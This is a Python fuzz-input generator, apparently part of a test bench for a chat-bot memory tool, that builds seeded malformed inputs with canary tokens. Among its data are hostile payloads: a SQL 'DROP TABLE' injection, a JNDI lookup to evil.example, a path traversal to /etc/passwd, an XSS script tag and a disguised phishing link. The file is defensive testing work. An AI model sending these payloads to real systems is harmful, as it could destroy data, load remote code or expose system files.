"""Fuzzed input: what people (or attackers) might type into a command, reproducible from a seed.

Each input comes from one generator - or, one time in three, from two or three of them glued
together - and carries a canary token wherever it has content, so the log check can tell memory text
in a log line. Invalid UTF-8 is produced as ``bytes``; each transport sends it as far as it can
(percent-encoded in a Slack form, surrogate escapes in JSON and in a terminal line).
"""

from __future__ import annotations

import random
import unicodedata
import uuid
from collections.abc import Callable

from bench.assurance.population import SHARED_TEXTS
from bench.assurance.report import canary

Fuzz = str | bytes

MARKUP = (
    "<!channel>", "<!here>", "<!everyone>", "<@U0BOB>", "<@U0BOB|bob>", "<#C0GENERAL>", "<!subteam^S1>",
    "<https://evil.example/login|click here>", "@everyone", "@here", "<@1200000000000000102>",
    "<@!1200000000000000102>", "<@&1200000000000000010>", "<#1200000000000000011>", "*bold*", "_it_",
    "~strike~", "`code`", "```block```", "> quote", "||spoiler||", "[link](https://evil.example)",
    "# Heading", "<script>alert(1)</script>", "&lt;b&gt;", "&amp;", "\\*not bold\\*", ":smile:",
)  # fmt: skip
INJECTIONS = (
    "' OR 1=1 --", "'; DROP TABLE vec_memories; --", '{"user_id": "*"}', '"}]}, {"type": "section"',
    "%s %d %n {0} {user_id}", "${jndi:ldap://evil.example/a}", "{{7*7}}", "../../etc/passwd", "*", "%",
    "_", "user_id=*", "\\", "\\\\'", "null", "undefined", "NaN",
)  # fmt: skip
UNICODE = (
    "\u202eevil\u202c", "e\u0301\u0302\u0303\u0304\u0305\u0306", "👩\u200d👩\u200d👧\u200d👦",
    "🏳\ufe0f\u200d🌈", "中文の記憶", "العربية",
    "\ufeffBOM", "\uffff", "\ue000", "\U000e0041\U000e0042", "ｆｕｌｌｗｉｄｔｈ", "𝐦𝐚𝐭𝐡",
    "\u200b\u200c\u200d", "\u0301leading combining", "Ⅻ", "ﬁ", "İ", "ß", "\u00ad",
    "\u2028line\u2029para", "\U0010fffd",
)  # fmt: skip
NUMBERS = ("0", "-1", "1", "2", "99999999999999999999", "1e9", "1.5", "²", "١", "½", "Ⅻ", "0x10", "+1")
CONTROL = (
    "\x00",
    "\x01",
    "\x07",
    "\x08",
    "\x0b",
    "\x0c",
    "\x1b[31m",
    "\x1b[2J",
    "\x7f",
    "\x85",
    "\r",
    "\x9b",
)
BLANKS = (" ", "\t", "\n", "\r\n", "\u00a0", "\u2003", "\u3000", "\x1c", "\u2028", "\x0b")
BAD_UTF8 = (b"\xff", b"\xfe\xff", b"\xc3\x28", b"\xed\xa0\x80", b"\xc0\xaf", b"\xf8\x88\x80\x80\x80", b"\x80")


class FuzzInputs:
    """An endless, seeded stream of fuzzed inputs; ``limit`` is the longest text a memory may be."""

    def __init__(self, seed: int, *, limit: int, foreign_ids: list[str] | None = None) -> None:
        self.rng = random.Random(seed)
        self.limit = limit
        self.foreign_ids = foreign_ids or [str(uuid.UUID(int=seed))]
        self.generators: list[tuple[Callable[[], Fuzz], int]] = [
            (self.sentence, 20), (self.empty, 4), (self.blank, 5), (self.huge, 4), (self.at_limit, 2),
            (self.control, 8), (self.nul, 3), (self.bad_utf8, 6), (self.surrogate, 4), (self.markup, 10),
            (self.injection, 6), (self.unicode, 8), (self.memory_id, 6), (self.number, 4),
        ]  # fmt: skip

    def token(self) -> str:
        return canary(self.rng)

    def sentence(self) -> str:
        return f"{self.rng.choice(SHARED_TEXTS)} {self.token()}"

    def empty(self) -> str:
        return ""

    def blank(self) -> str:
        return "".join(self.rng.choices(BLANKS, k=self.rng.randint(1, 6)))

    def huge(self) -> str:
        size = self.rng.choice([self.limit + 1, 2 * self.limit, 4_000, 10_000, 40_000])
        return (self.sentence() + " ") * (size // 40 + 1)

    def at_limit(self) -> str:
        text = (self.sentence() + " ") * (self.limit // 40 + 1)
        return text[: self.rng.choice([self.limit, self.limit - 1])].rstrip() + "x"

    def _insert(self, text: str, piece: str) -> str:
        i = self.rng.randrange(len(text) + 1)
        return text[:i] + piece + text[i:]

    def control(self) -> str:
        return self._insert(self.sentence(), self.rng.choice(CONTROL))

    def nul(self) -> str:
        return self.rng.choice(["\x00", self._insert(self.sentence(), "\x00"), self.sentence() + "\x00" * 5])

    def bad_utf8(self) -> bytes:
        text = self.sentence().encode()
        i = self.rng.randrange(len(text) + 1)
        return text[:i] + self.rng.choice(BAD_UTF8) + text[i:]

    def surrogate(self) -> str:
        return self._insert(self.sentence(), self.rng.choice(["\ud800", "\udfff", "\udc80", "\ud83d"]))

    def markup(self) -> str:
        pieces = self.rng.sample(MARKUP, self.rng.randint(1, 3))
        return " ".join([*pieces, self.token()])

    def injection(self) -> str:
        return f"{self.rng.choice(INJECTIONS)} {self.token()}"

    def unicode(self) -> str:
        return f"{self.rng.choice(UNICODE)} {self.token()} {self.rng.choice(UNICODE)}"

    def memory_id(self) -> str:
        memory_id = self.rng.choice(self.foreign_ids)
        return self.rng.choice(
            [memory_id, memory_id.upper(), f" {memory_id} ", memory_id[:-1], str(uuid.uuid4())]
        )

    def number(self) -> str:
        return self.rng.choice(NUMBERS)

    def next(self) -> Fuzz:
        functions, weights = zip(*self.generators, strict=True)
        count = 1 if self.rng.random() < 0.67 else self.rng.choice([2, 3])
        parts = [self.rng.choices(functions, weights)[0]() for _ in range(count)]
        if count == 1:
            return parts[0]
        if any(isinstance(part, bytes) for part in parts):
            return b" ".join(p if isinstance(p, bytes) else p.encode("utf-8", "surrogatepass") for p in parts)
        return " ".join(str(part) for part in parts)

    def answer(self) -> str:
        """An answer to a confirmation prompt: mostly not a yes, sometimes a tricky digit."""
        return self.rng.choice(
            ["", "no", "n", "yes", " YES ", "0", "1", "2", "6", "-1", "²", "١", "1.0", "\x00", "y"]
        )


def over_json(value: Fuzz) -> str:
    """``value`` as a JSON transport can carry it: invalid UTF-8 bytes become lone surrogates."""
    return value.decode("utf-8", "surrogateescape") if isinstance(value, bytes) else value


def over_form(value: Fuzz) -> bytes:
    """``value`` as bytes for a URL-encoded form; a lone surrogate becomes its (invalid) UTF-8 bytes."""
    return value if isinstance(value, bytes) else value.encode("utf-8", "surrogatepass")


def received_from_form(value: Fuzz) -> str:
    """What a server decoding the form as UTF-8 (invalid bytes replaced) receives."""
    return over_form(value).decode("utf-8", "replace")


def valid_memory(text: str, limit: int) -> bool:
    """Whether ``text`` may be stored, by the rules Cubby documents: non-empty once surrounding
    whitespace is removed, at most ``limit`` characters, valid Unicode, and no control characters
    but newline and tab."""
    stripped = text.strip()
    if not stripped or len(stripped) > limit:
        return False
    for char in stripped:
        category = unicodedata.category(char)
        if category == "Cs" or (category == "Cc" and char not in "\n\t"):
            return False
    return True
